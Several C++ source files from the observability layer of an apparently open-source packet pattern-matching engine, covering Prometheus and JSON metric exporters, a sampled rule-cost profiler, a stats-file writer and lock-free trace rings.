  prom_counter(out, "mfa_shed_bytes_total", "Payload bytes of shed packets",
               snap, &ShardSnapshot::shed_bytes, "counter");
  prom_counter(out, "mfa_flows_quarantined_total",
               "Flows evicted for exceeding their per-flow CPU budget", snap,
               &ShardSnapshot::flows_quarantined, "counter");
  prom_counter(out, "mfa_prefilter_pass_total",
               "Gate-eligible chunks with a literal candidate (scanned in full)",
               snap, &ShardSnapshot::prefilter_pass, "counter");
  prom_counter(out, "mfa_prefilter_skip_total",
               "Chunks the literal prefilter proved clean (scan skipped)", snap,
               &ShardSnapshot::prefilter_skip, "counter");
  prom_counter(out, "mfa_degraded_hits_total",
               "Prefilter-positive chunks recorded (not scanned) while the "
               "shard ran a degraded ladder level", snap,
               &ShardSnapshot::degraded_hits, "counter");
  prom_counter(out, "mfa_degrade_level",
               "Current degradation ladder level (0=full ... 3=bypass)", snap,
               &ShardSnapshot::degrade_level, "gauge");
  prom_counter(out, "mfa_degrade_transitions_total",
               "Degradation ladder level changes made by the controller", snap,
               &ShardSnapshot::degrade_transitions, "counter");
  prom_counter(out, "mfa_flows_recovered_total",
               "Flows reset from the shard journal after a worker crash", snap,
               &ShardSnapshot::flows_recovered, "counter");
  prom_counter(out, "mfa_worker_restarts_total",
               "Crashed shard workers restarted by the watchdog", snap,
               &ShardSnapshot::worker_restarts, "counter");
  prom_counter(out, "mfa_worker_stalls_total",
               "Stalled shard workers detected by the watchdog", snap,
               &ShardSnapshot::worker_stalls, "counter");
  prom_histogram(out, "mfa_scan_ns", "Per-packet scan latency in nanoseconds",
                 snap, &ShardSnapshot::scan_ns);
  prom_histogram(out, "mfa_packet_bytes", "Per-packet payload size in bytes", snap,
                 &ShardSnapshot::packet_bytes);
  prom_histogram(out, "mfa_bytes_per_flow",
                 "Flow-table bytes per resident flow", snap,
                 &ShardSnapshot::bytes_per_flow);
  prom_histogram(out, "mfa_queue_depth", "Shard queue depth at submit", snap,
                 &ShardSnapshot::queue_depth);
  prom_counter(out, "mfa_spans_sampled_total",
               "Sampled latency spans recorded by the shard worker", snap,
               &ShardSnapshot::spans_sampled, "counter");
  prom_histogram(out, "mfa_queue_wait_ns",
                 "Sampled submit-to-dequeue queue wait in nanoseconds", snap,
                 &ShardSnapshot::queue_wait_ns);
  prom_histogram(out, "mfa_span_scan_ns",
                 "Sampled burst scan latency in nanoseconds", snap,
                 &ShardSnapshot::span_scan_ns);
  prom_histogram(out, "mfa_e2e_ns",
                 "Sampled submit-to-scan-end latency in nanoseconds", snap,
                 &ShardSnapshot::e2e_ns);
  append(out, "# HELP mfa_span_events_total Latency spans recorded to the span ring\n"
              "# TYPE mfa_span_events_total counter\n"
              "mfa_span_events_total %" PRIu64 "\n",
         snap.span_recorded);
  append(out, "# HELP mfa_match_hits_total Confirmed matches per pattern id\n"
              "# TYPE mfa_match_hits_total counter\n");
  for (const auto& [id, count] : snap.match_counts) {
    if (rule_names != nullptr && id < rule_names->size()) {
      // Label values are escaped, so hostile rule names (quotes, newlines,
      // backslashes) cannot corrupt the exposition format.
      out += "mfa_match_hits_total{id=\"" + std::to_string(id) + "\",rule=\"" +
             prom_escape_label((*rule_names)[id]) + "\"}";
      append(out, " %" PRIu64 "\n", count);
    } else {
      append(out, "mfa_match_hits_total{id=\"%" PRIu32 "\"} %" PRIu64 "\n", id,
             count);
    }
  }
  append(out, "# HELP mfa_match_id_overflow_total Matches beyond the id counter table\n"
              "# TYPE mfa_match_id_overflow_total counter\n"
              "mfa_match_id_overflow_total %" PRIu64 "\n",
         snap.match_id_overflow);
  append(out, "# HELP mfa_trace_events_total Match events recorded to the trace ring\n"
              "# TYPE mfa_trace_events_total counter\n"
              "mfa_trace_events_total %" PRIu64 "\n",
         snap.trace_recorded);
  append(out, "# HELP mfa_ruleset_generation Newest published ruleset generation\n"
              "# TYPE mfa_ruleset_generation gauge\n"
              "mfa_ruleset_generation %" PRIu64 "\n",
         snap.ruleset_generation);
  append(out, "# HELP mfa_ruleset_swaps_total Completed ruleset hot swaps\n"
              "# TYPE mfa_ruleset_swaps_total counter\n"
              "mfa_ruleset_swaps_total %" PRIu64 "\n",
         snap.ruleset_swaps);
  // Swap prepare latency is registry-level (one background compiler, not
  // per shard), so it is emitted by hand rather than via prom_histogram.
  append(out, "# HELP mfa_ruleset_swap_ns Ruleset swap prepare latency in nanoseconds\n"
              "# TYPE mfa_ruleset_swap_ns histogram\n");
  {
    const HistogramSnapshot& h = snap.ruleset_swap_ns;
    std::uint64_t cumulative = 0;
    const std::size_t hi = h.max_bucket();
    for (std::size_t b = 0; b <= hi && b + 1 < kHistogramBuckets; ++b) {
      cumulative += h.counts[b];
      append(out, "mfa_ruleset_swap_ns_bucket{le=\"%" PRIu64 "\"} %" PRIu64 "\n",
             Histogram::bucket_upper_bound(b), cumulative);
    }
    append(out, "mfa_ruleset_swap_ns_bucket{le=\"+Inf\"} %" PRIu64 "\n", h.count);
    append(out, "mfa_ruleset_swap_ns_sum %" PRIu64 "\n", h.sum);
    append(out, "mfa_ruleset_swap_ns_count %" PRIu64 "\n", h.count);
  }
  append(out, "# HELP mfa_generation_matches_total Confirmed matches per ruleset generation\n"
              "# TYPE mfa_generation_matches_total counter\n");
  for (const auto& [gen, count] : snap.generation_matches)
    append(out, "mfa_generation_matches_total{generation=\"%" PRIu64 "\"} %" PRIu64 "\n",
           gen, count);
  append(out, "# HELP mfa_generation_match_overflow_total Matches the generation slot table could not place\n"
              "# TYPE mfa_generation_match_overflow_total counter\n"
              "mfa_generation_match_overflow_total %" PRIu64 "\n",
         snap.generation_match_overflow);
  return out;
}

std::string to_json(const RegistrySnapshot& snap) { return snapshot_json(snap); }

std::string BenchReport::to_json() const {
  std::string out =
      "{\"schema\":\"mfa.bench.v1\",\"bench\":\"" + json_escape(bench_) + "\",";
  append(out, "\"hardware_threads\":%u,\"results\":[",
         std::thread::hardware_concurrency());
  for (std::size_t i = 0; i < rows_.size(); ++i) {
    const Row& r = rows_[i];
    append(out, "%s{\"set\":\"%s\",\"trace\":\"%s\",\"engine\":\"%s\","
                "\"shards\":%zu,\"cycles_per_byte\":%.6g,\"matches\":%" PRIu64 "}",
           i != 0 ? "," : "", json_escape(r.set).c_str(),
           json_escape(r.trace).c_str(), json_escape(r.engine).c_str(),
           r.shards, r.cycles_per_byte, r.matches);
  }
  out += "]";
  if (telemetry_.has_value()) {
    out += ",\"telemetry\":";
    out += snapshot_json(*telemetry_);
  }
  out += "}";
  return out;
}

bool BenchReport::write_file(const std::string& path) const {
  std::FILE* f = std::fopen(path.c_str(), "w");
  if (f == nullptr) return false;
  const std::string body = to_json();
  const bool ok = std::fwrite(body.data(), 1, body.size(), f) == body.size() &&
                  std::fputc('\n', f) != EOF;
  return std::fclose(f) == 0 && ok;
}

}  // namespace mfa::obs
