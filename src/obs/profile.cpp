#include "obs/profile.h"

#include <algorithm>
#include <cinttypes>
#include <cstdarg>
#include <cstdio>

#include "obs/export.h"

namespace mfa::obs {

std::size_t ProfileSnapshot::hot_states() const {
  std::size_t n = 0;
  for (const std::uint64_t v : state_visits)
    if (v != 0) ++n;
  return n;
}

HistogramSnapshot ProfileSnapshot::visit_histogram() const {
  HistogramSnapshot h;
  for (const std::uint64_t v : state_visits) {
    ++h.counts[Histogram::bucket_index(v)];
    ++h.count;
    h.sum += v;
  }
  return h;
}

Profiler::Profiler(Options opt)
    : sample_shift_(opt.sample_shift > 63 ? 63 : opt.sample_shift),
      rule_capacity_(opt.rule_capacity),
      state_capacity_(opt.state_capacity),
      rules_(std::make_unique<RuleSlot[]>(rule_capacity_ == 0 ? 1 : rule_capacity_)) {
  if (state_capacity_ != 0) {
    state_visits_ =
        std::make_unique<std::atomic<std::uint64_t>[]>(state_capacity_);
    for (std::uint32_t i = 0; i < state_capacity_; ++i)
      state_visits_[i].store(0, std::memory_order_relaxed);
  }
}

void Profiler::record_rules(const std::uint32_t* ids, std::size_t count,
                            std::uint64_t ns, std::uint64_t bytes) {
  sampled_packets_.fetch_add(1, std::memory_order_relaxed);
  sampled_ns_.fetch_add(ns, std::memory_order_relaxed);
  sampled_bytes_.fetch_add(bytes, std::memory_order_relaxed);
  if (count == 0) {
    charge(unmatched_, ns, bytes);
    return;
  }
  // Equal shares conserve the sampled totals: sum over rules (+ unmatched)
  // of attributed ns equals sampled_ns, so the top-K table's percentages
  // are honest. The remainder of the division goes to the first id.
  const std::uint64_t ns_share = ns / count;
  const std::uint64_t bytes_share = bytes / count;
  for (std::size_t i = 0; i < count; ++i) {
    const std::uint64_t n = i == 0 ? ns - ns_share * (count - 1) : ns_share;
    const std::uint64_t b =
        i == 0 ? bytes - bytes_share * (count - 1) : bytes_share;
    if (ids[i] < rule_capacity_) {
      charge(rules_[ids[i]], n, b);
    } else {
      rule_overflow_.fetch_add(1, std::memory_order_relaxed);
    }
  }
}

void Profiler::record_unmatched(std::uint64_t ns, std::uint64_t bytes) {
  sampled_packets_.fetch_add(1, std::memory_order_relaxed);
  sampled_ns_.fetch_add(ns, std::memory_order_relaxed);
  sampled_bytes_.fetch_add(bytes, std::memory_order_relaxed);
  charge(unmatched_, ns, bytes);
}

ProfileSnapshot Profiler::snapshot() const {
  ProfileSnapshot s;
  s.sample_shift = sample_shift_;
  s.sampled_packets = sampled_packets_.load(std::memory_order_relaxed);
  s.sampled_ns = sampled_ns_.load(std::memory_order_relaxed);
  s.sampled_bytes = sampled_bytes_.load(std::memory_order_relaxed);
  for (std::size_t id = 0; id < rule_capacity_; ++id) {
    const std::uint64_t samples =
        rules_[id].samples.load(std::memory_order_relaxed);
    if (samples == 0) continue;
    s.rules.push_back(RuleCost{static_cast<std::uint32_t>(id), samples,
                               rules_[id].ns.load(std::memory_order_relaxed),
                               rules_[id].bytes.load(std::memory_order_relaxed)});
  }
  s.unmatched.samples = unmatched_.samples.load(std::memory_order_relaxed);
  s.unmatched.ns = unmatched_.ns.load(std::memory_order_relaxed);
  s.unmatched.bytes = unmatched_.bytes.load(std::memory_order_relaxed);
  s.rule_overflow = rule_overflow_.load(std::memory_order_relaxed);
  s.state_visits.resize(state_capacity_);
  for (std::uint32_t i = 0; i < state_capacity_; ++i)
    s.state_visits[i] = state_visits_[i].load(std::memory_order_relaxed);
  s.state_overflow = state_overflow_.load(std::memory_order_relaxed);
  return s;
}

namespace {

void append(std::string& out, const char* fmt, ...)
    __attribute__((format(printf, 2, 3)));

void append(std::string& out, const char* fmt, ...) {
  char buf[256];
  va_list args;
  va_start(args, fmt);
  const int n = std::vsnprintf(buf, sizeof buf, fmt, args);
  va_end(args);
  if (n > 0) out.append(buf, static_cast<std::size_t>(n < 256 ? n : 255));
}

/// Rules sorted by attributed ns, descending; ties by id for determinism.
std::vector<RuleCost> ranked(const ProfileSnapshot& snap) {
  std::vector<RuleCost> rules = snap.rules;
  std::sort(rules.begin(), rules.end(), [](const RuleCost& a, const RuleCost& b) {
    return a.ns != b.ns ? a.ns > b.ns : a.id < b.id;
  });
  return rules;
}

const char* name_of(const std::vector<std::string>* names, std::uint32_t id) {
  if (names == nullptr || id >= names->size()) return nullptr;
  return (*names)[id].c_str();
}

}  // namespace

std::string to_profile_json(const ProfileSnapshot& snap, std::size_t top_k,
                            const std::vector<std::string>* rule_names) {
  std::string out = "{\"schema\":\"mfa.profile.v1\",";
  append(out,
         "\"sample_shift\":%" PRIu32 ",\"sampled_packets\":%" PRIu64
         ",\"sampled_ns\":%" PRIu64 ",\"sampled_bytes\":%" PRIu64
         ",\"rule_overflow\":%" PRIu64 ",\"top_rules\":[",
         snap.sample_shift, snap.sampled_packets, snap.sampled_ns,
         snap.sampled_bytes, snap.rule_overflow);
  const std::vector<RuleCost> rules = ranked(snap);
  const std::size_t k = std::min(top_k, rules.size());
  for (std::size_t i = 0; i < k; ++i) {
    const RuleCost& r = rules[i];
    append(out, "%s{\"id\":%" PRIu32 ",", i != 0 ? "," : "", r.id);
    if (const char* name = name_of(rule_names, r.id))
      out += "\"name\":\"" + json_escape(name) + "\",";
    append(out,
           "\"samples\":%" PRIu64 ",\"ns\":%" PRIu64 ",\"bytes\":%" PRIu64
           ",\"ns_share\":%.4f}",
           r.samples, r.ns, r.bytes,
           snap.sampled_ns > 0
               ? static_cast<double>(r.ns) / static_cast<double>(snap.sampled_ns)
               : 0.0);
  }
  append(out,
         "],\"rules_total\":%zu,\"unmatched\":{\"samples\":%" PRIu64
         ",\"ns\":%" PRIu64 ",\"bytes\":%" PRIu64 "},\"states\":{",
         snap.rules.size(), snap.unmatched.samples, snap.unmatched.ns,
         snap.unmatched.bytes);
  const std::size_t hot = snap.hot_states();
  append(out,
         "\"tracked\":%zu,\"hot\":%zu,\"cold\":%zu,\"overflow\":%" PRIu64
         ",\"visit_histogram\":[",
         snap.state_visits.size(), hot, snap.state_visits.size() - hot,
         snap.state_overflow);
  // Log2 histogram over per-state visit counts: [bucket upper bound,
  // states], zero buckets elided — bucket 0 is the cold-state count.
  const HistogramSnapshot h = snap.visit_histogram();
  bool first = true;
  for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
    if (h.counts[b] == 0) continue;
    append(out, "%s[%" PRIu64 ",%" PRIu64 "]", first ? "" : ",",
           Histogram::bucket_upper_bound(b), h.counts[b]);
    first = false;
  }
  out += "]}}";
  return out;
}

std::string profile_table(const ProfileSnapshot& snap, std::size_t top_k,
                          const std::vector<std::string>* rule_names) {
  std::string out;
  append(out, "top-%zu rules by sampled scan cost (1-in-%" PRIu64 " sampling):\n",
         top_k, std::uint64_t{1} << snap.sample_shift);
  append(out, "%6s  %10s  %12s  %12s  %7s  %s\n", "id", "samples", "ns", "bytes",
         "ns%", "name");
  const std::vector<RuleCost> rules = ranked(snap);
  const std::size_t k = std::min(top_k, rules.size());
  for (std::size_t i = 0; i < k; ++i) {
    const RuleCost& r = rules[i];
    const char* name = name_of(rule_names, r.id);
    append(out,
           "%6" PRIu32 "  %10" PRIu64 "  %12" PRIu64 "  %12" PRIu64
           "  %6.2f%%  %s\n",
           r.id, r.samples, r.ns, r.bytes,
           snap.sampled_ns > 0
               ? 100.0 * static_cast<double>(r.ns) /
                     static_cast<double>(snap.sampled_ns)
               : 0.0,
           name != nullptr ? name : "-");
  }
  append(out,
         "unmatched: %" PRIu64 " samples, %" PRIu64 " ns; states hot/tracked: "
         "%zu/%zu\n",
         snap.unmatched.samples, snap.unmatched.ns, snap.hot_states(),
         snap.state_visits.size());
  return out;
}

}  // namespace mfa::obs
