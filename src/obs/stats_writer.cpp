#include "obs/stats_writer.h"

#include <cstdio>

#include "obs/export.h"

namespace mfa::obs {

StatsWriter::StatsWriter(const MetricsRegistry& registry, std::string path,
                         std::chrono::milliseconds period)
    : registry_(&registry), path_(std::move(path)), period_(period) {
  thread_ = std::thread([this] { run(); });
}

void StatsWriter::stop() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (stopping_ && !thread_.joinable()) return;
    stopping_ = true;
  }
  cv_.notify_all();
  if (thread_.joinable()) thread_.join();
}

void StatsWriter::run() {
  std::unique_lock<std::mutex> lock(mu_);
  while (!stopping_) {
    if (cv_.wait_for(lock, period_, [this] { return stopping_; })) break;
    lock.unlock();
    write_line();
    lock.lock();
  }
  lock.unlock();
  write_line();  // final snapshot so short runs still record one line
}

void StatsWriter::write_line() {
  std::FILE* f = std::fopen(path_.c_str(), "a");
  if (f == nullptr) return;
  const std::string line = to_json(registry_->snapshot());
  std::fwrite(line.data(), 1, line.size(), f);
  std::fputc('\n', f);
  std::fclose(f);
  ++lines_;
}

}  // namespace mfa::obs
