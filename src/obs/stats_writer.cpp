#include "obs/stats_writer.h"

#include <cstdio>

#include "obs/export.h"

namespace mfa::obs {

StatsWriter::StatsWriter(const MetricsRegistry& registry, std::string path,
                         std::chrono::milliseconds period)
    : registry_(&registry), path_(std::move(path)), period_(period) {
  thread_ = std::thread([this] { run(); });
}

void StatsWriter::stop() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (stopping_ && !thread_.joinable()) return;
    stopping_ = true;
  }
  cv_.notify_all();
  if (thread_.joinable()) thread_.join();
}

void StatsWriter::run() {
  std::unique_lock<std::mutex> lock(mu_);
  while (!stopping_) {
    if (cv_.wait_for(lock, period_, [this] { return stopping_; })) break;
    lock.unlock();
    write_line();
    lock.lock();
  }
  lock.unlock();
  write_line();  // final snapshot so short runs still record one line
}

void StatsWriter::write_line() {
  std::FILE* f = std::fopen(path_.c_str(), "a");
  if (f == nullptr) {
    errors_.fetch_add(1, std::memory_order_relaxed);
    return;
  }
  const std::string line = to_json(registry_->snapshot());
  // A telemetry line is all-or-nothing: a short write or failed flush makes
  // the whole line suspect (a truncated JSON object would poison any reader
  // tailing the file), so count it as one error, never a partial success.
  bool ok = std::fwrite(line.data(), 1, line.size(), f) == line.size();
  ok = std::fputc('\n', f) != EOF && ok;
  ok = std::fflush(f) == 0 && ok;  // reach the OS before we report success
  ok = std::fclose(f) == 0 && ok;
  if (ok)
    lines_.fetch_add(1, std::memory_order_relaxed);
  else
    errors_.fetch_add(1, std::memory_order_relaxed);
}

}  // namespace mfa::obs
