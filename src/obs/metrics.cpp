#include "obs/metrics.h"

#include <algorithm>

#include "util/timing.h"

namespace mfa::obs {

std::uint64_t HistogramSnapshot::quantile(double q) const {
  if (count == 0) return 0;
  if (q < 0.0) q = 0.0;
  if (q > 1.0) q = 1.0;
  const auto target = static_cast<std::uint64_t>(q * static_cast<double>(count));
  std::uint64_t cumulative = 0;
  for (std::size_t i = 0; i < kHistogramBuckets; ++i) {
    cumulative += counts[i];
    if (cumulative > 0 && cumulative >= target)
      return Histogram::bucket_upper_bound(i);
  }
  return Histogram::bucket_upper_bound(kHistogramBuckets - 1);
}

MatchTraceRing::MatchTraceRing(std::size_t capacity) {
  std::size_t cap = 2;
  while (cap < capacity) cap <<= 1;
  slots_ = std::make_unique<Slot[]>(cap);
  mask_ = cap - 1;
}

void MatchTraceRing::record(std::uint32_t src_ip, std::uint32_t dst_ip,
                            std::uint16_t src_port, std::uint16_t dst_port,
                            std::uint8_t proto, std::uint32_t match_id,
                            std::uint64_t offset, std::uint64_t tsc) {
  const std::uint64_t ticket = head_.fetch_add(1, std::memory_order_relaxed);
  Slot& s = slots_[ticket & mask_];
  s.seq.store(2 * ticket + 1, std::memory_order_relaxed);  // mark in-progress
  s.src_ip.store(src_ip, std::memory_order_relaxed);
  s.dst_ip.store(dst_ip, std::memory_order_relaxed);
  s.ports_proto.store((std::uint64_t{src_port} << 32) |
                          (std::uint64_t{dst_port} << 16) | proto,
                      std::memory_order_relaxed);
  s.match_id.store(match_id, std::memory_order_relaxed);
  s.offset.store(offset, std::memory_order_relaxed);
  s.tsc.store(tsc, std::memory_order_relaxed);
  s.seq.store(2 * ticket + 2, std::memory_order_release);  // publish
}

std::vector<MatchTraceRing::Event> MatchTraceRing::drain() const {
  const std::uint64_t head = head_.load(std::memory_order_acquire);
  const std::uint64_t n = head < mask_ + 1 ? head : mask_ + 1;
  std::vector<Event> out;
  out.reserve(static_cast<std::size_t>(n));
  for (std::uint64_t ticket = head - n; ticket < head; ++ticket) {
    const Slot& s = slots_[ticket & mask_];
    const std::uint64_t want = 2 * ticket + 2;
    if (s.seq.load(std::memory_order_acquire) != want) continue;  // mid-overwrite
    Event e;
    e.src_ip = s.src_ip.load(std::memory_order_relaxed);
    e.dst_ip = s.dst_ip.load(std::memory_order_relaxed);
    const std::uint64_t pp = s.ports_proto.load(std::memory_order_relaxed);
    e.src_port = static_cast<std::uint16_t>(pp >> 32);
    e.dst_port = static_cast<std::uint16_t>(pp >> 16);
    e.proto = static_cast<std::uint8_t>(pp);
    e.match_id = s.match_id.load(std::memory_order_relaxed);
    e.offset = s.offset.load(std::memory_order_relaxed);
    e.tsc = s.tsc.load(std::memory_order_relaxed);
    if (s.seq.load(std::memory_order_acquire) != want) continue;  // re-check
    out.push_back(e);
  }
  return out;
}

SpanTraceRing::SpanTraceRing(std::size_t capacity) {
  std::size_t cap = 2;
  while (cap < capacity) cap <<= 1;
  slots_ = std::make_unique<Slot[]>(cap);
  mask_ = cap - 1;
}

void SpanTraceRing::record(std::uint32_t src_ip, std::uint32_t dst_ip,
                           std::uint16_t src_port, std::uint16_t dst_port,
                           std::uint8_t proto, std::uint32_t shard,
                           std::uint64_t submit_tsc, std::uint64_t dequeue_tsc,
                           std::uint64_t scan_start_tsc,
                           std::uint64_t scan_end_tsc) {
  const std::uint64_t ticket = head_.fetch_add(1, std::memory_order_relaxed);
  Slot& s = slots_[ticket & mask_];
  s.seq.store(2 * ticket + 1, std::memory_order_relaxed);  // mark in-progress
  s.src_ip.store(src_ip, std::memory_order_relaxed);
  s.dst_ip.store(dst_ip, std::memory_order_relaxed);
  s.ports_proto.store((std::uint64_t{src_port} << 32) |
                          (std::uint64_t{dst_port} << 16) | proto,
                      std::memory_order_relaxed);
  s.shard.store(shard, std::memory_order_relaxed);
  s.submit_tsc.store(submit_tsc, std::memory_order_relaxed);
  s.dequeue_tsc.store(dequeue_tsc, std::memory_order_relaxed);
  s.scan_start_tsc.store(scan_start_tsc, std::memory_order_relaxed);
  s.scan_end_tsc.store(scan_end_tsc, std::memory_order_relaxed);
  s.seq.store(2 * ticket + 2, std::memory_order_release);  // publish
}

std::vector<SpanTraceRing::Event> SpanTraceRing::drain() const {
  const std::uint64_t head = head_.load(std::memory_order_acquire);
  const std::uint64_t n = head < mask_ + 1 ? head : mask_ + 1;
  std::vector<Event> out;
  out.reserve(static_cast<std::size_t>(n));
  for (std::uint64_t ticket = head - n; ticket < head; ++ticket) {
    const Slot& s = slots_[ticket & mask_];
    const std::uint64_t want = 2 * ticket + 2;
    if (s.seq.load(std::memory_order_acquire) != want) continue;  // mid-overwrite
    Event e;
    e.src_ip = s.src_ip.load(std::memory_order_relaxed);
    e.dst_ip = s.dst_ip.load(std::memory_order_relaxed);
    const std::uint64_t pp = s.ports_proto.load(std::memory_order_relaxed);
    e.src_port = static_cast<std::uint16_t>(pp >> 32);
    e.dst_port = static_cast<std::uint16_t>(pp >> 16);
    e.proto = static_cast<std::uint8_t>(pp);
    e.shard = s.shard.load(std::memory_order_relaxed);
    e.submit_tsc = s.submit_tsc.load(std::memory_order_relaxed);
    e.dequeue_tsc = s.dequeue_tsc.load(std::memory_order_relaxed);
    e.scan_start_tsc = s.scan_start_tsc.load(std::memory_order_relaxed);
    e.scan_end_tsc = s.scan_end_tsc.load(std::memory_order_relaxed);
    if (s.seq.load(std::memory_order_acquire) != want) continue;  // re-check
    out.push_back(e);
  }
  return out;
}

MetricsRegistry::MetricsRegistry(Options opt)
    : shard_count_(opt.shards == 0 ? 1 : opt.shards),
      match_id_capacity_(opt.match_id_capacity),
      shards_(std::make_unique<ShardMetrics[]>(shard_count_)),
      match_counts_(
          std::make_unique<std::atomic<std::uint64_t>[]>(match_id_capacity_)),
      trace_(opt.trace_capacity),
      spans_(opt.span_capacity) {
  for (std::size_t i = 0; i < match_id_capacity_; ++i)
    match_counts_[i].store(0, std::memory_order_relaxed);
}

RegistrySnapshot MetricsRegistry::snapshot() const {
  RegistrySnapshot snap;
  snap.shards.reserve(shard_count_);
  for (std::size_t i = 0; i < shard_count_; ++i)
    snap.shards.push_back(shards_[i].snapshot());
  for (std::size_t id = 0; id < match_id_capacity_; ++id) {
    const std::uint64_t c = match_counts_[id].load(std::memory_order_relaxed);
    if (c != 0) snap.match_counts.emplace_back(static_cast<std::uint32_t>(id), c);
  }
  snap.match_id_overflow = match_id_overflow_.load(std::memory_order_relaxed);
  snap.trace_events = trace_.drain();
  snap.trace_recorded = trace_.recorded();
  snap.span_events = spans_.drain();
  snap.span_recorded = spans_.recorded();
  snap.ruleset_generation = ruleset_generation_.load(std::memory_order_relaxed);
  snap.ruleset_swaps = ruleset_swaps_.load(std::memory_order_relaxed);
  snap.ruleset_swap_ns = ruleset_swap_ns_.snapshot();
  for (const GenerationSlot& slot : generation_slots_) {
    const std::uint64_t gen = slot.generation.load(std::memory_order_acquire);
    if (gen == kGenerationSlotEmpty) continue;
    const std::uint64_t c = slot.count.load(std::memory_order_relaxed);
    if (c != 0) snap.generation_matches.emplace_back(gen, c);
  }
  std::sort(snap.generation_matches.begin(), snap.generation_matches.end());
  snap.generation_match_overflow =
      generation_match_overflow_.load(std::memory_order_relaxed);
  return snap;
}

void MetricsRegistry::record_ruleset_swap(std::uint64_t generation,
                                          std::uint64_t prepare_ns) {
  ruleset_generation_.store(generation, std::memory_order_relaxed);
  ruleset_swaps_.fetch_add(1, std::memory_order_relaxed);
  ruleset_swap_ns_.record(prepare_ns);
  trace_.record(0, 0, 0, 0, 0, kRulesetSwappedEventId, generation,
                util::rdtsc_now());
}

}  // namespace mfa::obs
