// Sampled cost profiler (DESIGN.md Sec. 12): where do the cycles and the
// automaton actually go?
//
// The telemetry core (obs/metrics.h) answers "how much"; the profiler
// answers "which rules are expensive" and "which automaton states are hot"
// — the direct inputs for SIMD-prefilter selection and approximate state
// reduction (ROADMAP items 1 and 4). Inspectors sample 1-in-2^shift
// delivered packets; each sample attributes the packet's precise scan
// nanoseconds and payload bytes to the match-ids it produced (split evenly
// across multiple ids so sampled totals are conserved) or to the "unmatched"
// bucket, and bumps a state-visit counter for the flow's current automaton
// state (every engine exposes context_state()). All hot-path updates are
// relaxed atomics into fixed preallocated tables: the sampled-off cost is
// one branch per packet, the sampled cost is a handful of increments.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "obs/metrics.h"

namespace mfa::obs {

/// Read-side copy of one rule's sampled cost.
struct RuleCost {
  std::uint32_t id = 0;
  std::uint64_t samples = 0;  ///< sampled packets that matched this rule
  std::uint64_t ns = 0;       ///< scan nanoseconds attributed to the rule
  std::uint64_t bytes = 0;    ///< payload bytes attributed to the rule
};

/// Read-side copy of the whole profiler, mergeable into mfa.profile.v1.
struct ProfileSnapshot {
  std::uint32_t sample_shift = 0;  ///< 1-in-2^shift packets sampled
  std::uint64_t sampled_packets = 0;
  std::uint64_t sampled_ns = 0;
  std::uint64_t sampled_bytes = 0;
  std::vector<RuleCost> rules;  ///< ids with nonzero samples, ascending id
  RuleCost unmatched;           ///< cost of sampled packets with no match
  std::uint64_t rule_overflow = 0;  ///< attributions beyond the id table
  /// Sampled automaton-state visits, indexed by state id (empty when state
  /// sampling is off). visits[s] > 0 marks state s hot under this traffic.
  std::vector<std::uint64_t> state_visits;
  std::uint64_t state_overflow = 0;  ///< visits beyond the state table

  /// States with at least one sampled visit.
  [[nodiscard]] std::size_t hot_states() const;
  /// Log2 histogram over per-state visit counts (bucket 0 = never visited).
  [[nodiscard]] HistogramSnapshot visit_histogram() const;
};

/// Lock-free sampled profiler shared by every inspector of a pipeline.
/// Construct once (rule table sized like the registry's match-id table,
/// state table sized engine.state_count()), attach to inspectors via
/// set_profiler(), snapshot from any thread at any time.
class Profiler {
 public:
  struct Options {
    std::size_t rule_capacity = 1024;   ///< ids >= this count as overflow
    std::uint32_t state_capacity = 0;   ///< automaton states tracked (0 = off)
    std::uint32_t sample_shift = 6;     ///< sample 1-in-2^shift packets
  };

  explicit Profiler(Options opt);

  Profiler(const Profiler&) = delete;
  Profiler& operator=(const Profiler&) = delete;

  [[nodiscard]] std::uint32_t sample_shift() const { return sample_shift_; }
  /// Inspector-side sampling mask: sample when (++tick & mask) == 0.
  [[nodiscard]] std::uint64_t sample_mask() const {
    return (std::uint64_t{1} << sample_shift_) - 1;
  }

  /// One sampled packet's cost split across the `count` match ids it
  /// produced (ids may repeat; each occurrence gets an equal share).
  void record_rules(const std::uint32_t* ids, std::size_t count,
                    std::uint64_t ns, std::uint64_t bytes);

  /// One sampled packet that produced no match.
  void record_unmatched(std::uint64_t ns, std::uint64_t bytes);

  /// The sampled flow's current automaton state after the scan.
  void record_state(std::uint32_t state) {
    if (state < state_capacity_)
      state_visits_[state].fetch_add(1, std::memory_order_relaxed);
    else if (state_capacity_ != 0)
      state_overflow_.fetch_add(1, std::memory_order_relaxed);
  }

  [[nodiscard]] ProfileSnapshot snapshot() const;

 private:
  struct RuleSlot {
    std::atomic<std::uint64_t> samples{0};
    std::atomic<std::uint64_t> ns{0};
    std::atomic<std::uint64_t> bytes{0};
  };

  void charge(RuleSlot& slot, std::uint64_t ns, std::uint64_t bytes) {
    slot.samples.fetch_add(1, std::memory_order_relaxed);
    slot.ns.fetch_add(ns, std::memory_order_relaxed);
    slot.bytes.fetch_add(bytes, std::memory_order_relaxed);
  }

  std::uint32_t sample_shift_;
  std::size_t rule_capacity_;
  std::uint32_t state_capacity_;
  std::unique_ptr<RuleSlot[]> rules_;
  RuleSlot unmatched_;
  std::atomic<std::uint64_t> rule_overflow_{0};
  std::unique_ptr<std::atomic<std::uint64_t>[]> state_visits_;
  std::atomic<std::uint64_t> state_overflow_{0};
  std::atomic<std::uint64_t> sampled_packets_{0};
  std::atomic<std::uint64_t> sampled_ns_{0};
  std::atomic<std::uint64_t> sampled_bytes_{0};
};

/// Render a snapshot as the mfa.profile.v1 JSON schema: a top-K table of
/// the most expensive rules (by attributed ns, descending) plus the
/// hot/cold state-visit histogram. `rule_names` (optional, id -> name)
/// labels the top-K rows; names are JSON-escaped.
std::string to_profile_json(const ProfileSnapshot& snap, std::size_t top_k = 10,
                            const std::vector<std::string>* rule_names = nullptr);

/// Human-readable top-K rule-cost table (the README quick-start rendering).
std::string profile_table(const ProfileSnapshot& snap, std::size_t top_k = 10,
                          const std::vector<std::string>* rule_names = nullptr);

}  // namespace mfa::obs
