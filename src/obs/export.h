// Snapshot exporters (DESIGN.md Sec. 8): Prometheus text format and the
// JSON schema the BENCH_*.json perf trajectory adopts.
//
// Both render the same RegistrySnapshot, so any value present in one is
// present in the other — the round-trip contract the exporter tests pin.
